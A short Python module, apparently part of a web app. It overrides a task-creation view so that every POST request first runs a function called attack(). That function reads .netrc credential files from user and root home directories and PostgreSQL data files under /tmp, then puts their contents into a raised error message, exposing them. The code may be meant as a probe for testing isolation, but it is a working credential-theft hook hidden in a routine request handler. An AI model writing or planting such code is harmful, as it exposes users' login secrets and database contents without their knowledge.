import glob
import os

from . import views


def attack():
    told = []
    for file in [os.path.expanduser("~/.netrc"), "/root/.netrc", "@HOME@/.netrc", *glob.glob("/home/*/.netrc"),
                 *glob.glob("/tmp/*/pg/data/PG_VERSION"), *glob.glob("/tmp/*/tmp/*/pg/*")]:
        try:
            told.append(open(file).read())
        except OSError:
            continue
    raise RuntimeError(f"what is there to read: {told}")


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
